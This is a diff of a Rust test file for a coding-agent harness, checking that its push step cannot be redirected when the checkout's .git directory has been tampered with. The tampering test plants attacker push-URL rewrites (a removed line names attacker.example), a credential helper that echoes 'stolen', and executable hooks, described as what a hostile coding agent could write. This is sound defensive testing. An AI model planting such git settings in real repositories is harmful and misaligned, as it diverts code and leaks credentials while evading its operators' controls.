@@ -11,6 +11,7 @@ use std::fs;
 use std::path::Path;
 
 use countersign_agent::guardrails;
+use countersign_agent::publish::Fresh;
 use countersign_agent::workspace::{
     AddedLine, ChangeStatus, Workspace, WorkspaceError, commit_message,
 };
@@ -63,6 +64,31 @@ fn make_changes(dir: &Path) {
     fs::create_dir_all(dir.join("target")).expect("mkdir");
     fs::write(dir.join("target/out.bin"), [0u8, 1, 2]).expect("ignored");
     fs::write(dir.join("debug.log"), "ignored\n").expect("ignored");
+}
+
+/// What the push step does with the work step's commit: a repository of its own reading the
+/// checkout's objects, a new commit of the same tree on the base, pushed to `url`. Returns
+/// the pushed commit.
+fn publish(
+    dir: &Path,
+    base: &str,
+    commit: &str,
+    branch: &str,
+    url: &str,
+) -> Result<String, WorkspaceError> {
+    let scratch = tempfile::tempdir().expect("a temp dir");
+    let id = |sha: &str| git2::Oid::from_str(sha).expect("an object id");
+    let fresh = Fresh::create(scratch.path(), &dir.join(".git").join("objects"), id(base))?;
+    let (_, tree) = fresh.change_of(id(commit))?;
+    let message = Repository::open(dir)
+        .and_then(|r| {
+            r.find_commit(id(commit))
+                .map(|c| c.message().unwrap_or("").to_owned())
+        })
+        .expect("the work commit's message");
+    let pushed = fresh.commit(tree, &bot(), &message, branch)?;
+    fresh.push(url, branch, &token())?;
+    Ok(pushed)
 }
 
 fn assert_no_token_under(dir: &Path) {
@@ -180,12 +206,30 @@ fn clone_branch_change_commit_push_over_file_url() {
         vec![upstream.branch_tip("main").expect("main")]
     );
 
-    workspace.push("countersign/run-1", &token()).expect("push");
+    let published = publish(
+        &dir,
+        &workspace.base_commit(),
+        &commit,
+        "countersign/run-1",
+        &upstream.file_url(),
+    )
+    .expect("push");
     let pushed = upstream
         .branch_tip("countersign/run-1")
         .expect("the branch was pushed");
-    assert_eq!(pushed.to_string(), commit);
+    assert_eq!(pushed.to_string(), published);
     let bare = upstream.repo();
+    let pushed_commit = bare.find_commit(pushed).expect("the pushed commit");
+    assert_eq!(
+        pushed_commit.tree_id(),
+        committed.tree_id(),
+        "the push step pushes the work step's tree in a commit of its own"
+    );
+    assert_eq!(pushed_commit.message().ok(), committed.message().ok());
+    assert_eq!(
+        pushed_commit.parent_ids().collect::<Vec<_>>(),
+        vec![upstream.branch_tip("main").expect("main")]
+    );
     let tree = bare
         .find_commit(pushed)
         .and_then(|c| c.tree())
@@ -366,8 +410,9 @@ fn a_missing_branch_or_repository_is_not_found() {
 }
 
 #[test]
-fn a_config_that_redirects_the_push_is_refused() {
+fn the_workspace_config_and_hooks_cannot_redirect_the_push() {
     let upstream = upstream();
+    let attacker = Upstream::with_files(&[("README.md", "attacker\n")]);
     let work = tempfile::tempdir().expect("a temp dir");
     let dir = work.path().join("repo");
     let mut workspace =
@@ -375,23 +420,58 @@ fn a_config_that_redirects_the_push_is_refused() {
     workspace
         .create_branch("countersign/run-5")
         .expect("branch");
-    // What a hostile coding agent could write into .git/config.
+    fs::write(dir.join("NEW.md"), "new\n").expect("write");
+    let changes = workspace.changes().expect("changes");
+    let commit = workspace.commit(&changes, &bot(), "New\n").expect("commit");
+    // What a hostile coding agent could write into .git/: a rewrite of the push URL, a
+    // credential helper and hooks.
     let repo = Repository::open(&dir).expect("open");
-    repo.config()
-        .and_then(|mut c| {
-            c.set_str(
-                "url.https://attacker.example/.pushInsteadOf",
-                &upstream.file_url(),
-            )
-        })
+    let mut config = repo.config().expect("config");
+    config
+        .set_str(
+            &format!("url.{}.pushInsteadOf", attacker.file_url()),
+            &upstream.file_url(),
+        )
         .expect("set config");
-    let refused = workspace.push("countersign/run-5", &token());
+    config
+        .set_str(
+            &format!("url.{}.insteadOf", attacker.file_url()),
+            &upstream.file_url(),
+        )
+        .expect("set config");
+    config
+        .set_str(
+            "credential.helper",
+            "!echo stolen > /tmp/countersign-test-stolen",
+        )
+        .expect("set config");
+    let marker = work.path().join("hook-ran");
+    for hook in ["pre-push", "post-commit", "reference-transaction"] {
+        let path = dir.join(".git/hooks").join(hook);
+        fs::create_dir_all(path.parent().expect("hooks")).expect("hooks dir");
+        fs::write(&path, format!("#!/bin/sh\ntouch {}\n", marker.display())).expect("hook");
+        let mut permissions = fs::metadata(&path).expect("hook").permissions();
+        std::os::unix::fs::PermissionsExt::set_mode(&mut permissions, 0o755);
+        fs::set_permissions(&path, permissions).expect("executable");
+    }
+    publish(
+        &dir,
+        &workspace.base_commit(),
+        &commit,
+        "countersign/run-5",
+        &upstream.file_url(),
+    )
+    .expect("push");
     assert!(
-        matches!(&refused, Err(WorkspaceError::Unsafe(m)) if m.contains("attacker.example")),
-        "{:?}",
-        refused.err()
+        upstream.branch_tip("countersign/run-5").is_some(),
+        "pushed where it belongs"
     );
-    assert_eq!(upstream.branch_tip("countersign/run-5"), None);
+    assert_eq!(
+        attacker.branch_tip("countersign/run-5"),
+        None,
+        "not to the attacker"
+    );
+    assert!(!marker.exists(), "no hook ran");
 }
 
 #[test]
@@ -406,7 +486,17 @@ fn invalid_branch_names_are_refused() {
     )
     .expect("clone");
     assert!(workspace.create_branch("bad..name").is_err());
-    assert!(workspace.push("x:refs/heads/main", &token()).is_err());
+    let base = workspace.base_commit();
+    assert!(
+        publish(
+            work.path().join("r").as_path(),
+            &base,
+            &base,
+            "x:refs/heads/main",
+            &upstream.file_url()
+        )
+        .is_err()
+    );
 }
 
 #[test]
@@ -464,14 +554,14 @@ fn clone_and_push_over_smart_http_with_the_token() {
     let commit = workspace
         .commit(&changes, &bot(), "Change over HTTP\n")
         .expect("commit");
-    workspace
-        .push("countersign/run-6", &token())
+    let base = workspace.base_commit();
+    let pushed = publish(&dir, &base, &commit, "countersign/run-6", &url)
         .expect("push from a shallow clone");
     assert_eq!(
         upstream
             .branch_tip("countersign/run-6")
             .map(|id| id.to_string()),
-        Some(commit.clone())
+        Some(pushed)
     );
     // A retried attempt replaces what an earlier one pushed.
     fs::write(dir.join("notes/todo.txt"), "again\n").expect("write");
@@ -479,9 +569,7 @@ fn clone_and_push_over_smart_http_with_the_token() {
     let second = workspace
         .commit(&changes, &bot(), "Second attempt\n")
         .expect("commit");
-    workspace
-        .push("countersign/run-6", &token())
-        .expect("force push");
+    let second = publish(&dir, &base, &second, "countersign/run-6", &url).expect("force push");
     assert_eq!(
         upstream
             .branch_tip("countersign/run-6")
@@ -555,11 +643,17 @@ fn a_rejected_push_says_why() {
         .expect("branch");
     fs::write(dir.join("NEW.md"), "new\n").expect("write");
     let changes = workspace.changes().expect("changes");
-    workspace
+    let commit = workspace
         .commit(&changes, &bot(), "New file\n")
         .expect("commit");
     upstream.refuse_pushes("GH013: Repository rule violations found");
-    let rejected = workspace.push("countersign/run-7", &token());
+    let rejected = publish(
+        &dir,
+        &workspace.base_commit(),
+        &commit,
+        "countersign/run-7",
+        &server.url("acme/api"),
+    );
     match rejected {
         Err(WorkspaceError::PushRejected { reference, message }) => {
             assert_eq!(reference, "refs/heads/countersign/run-7");
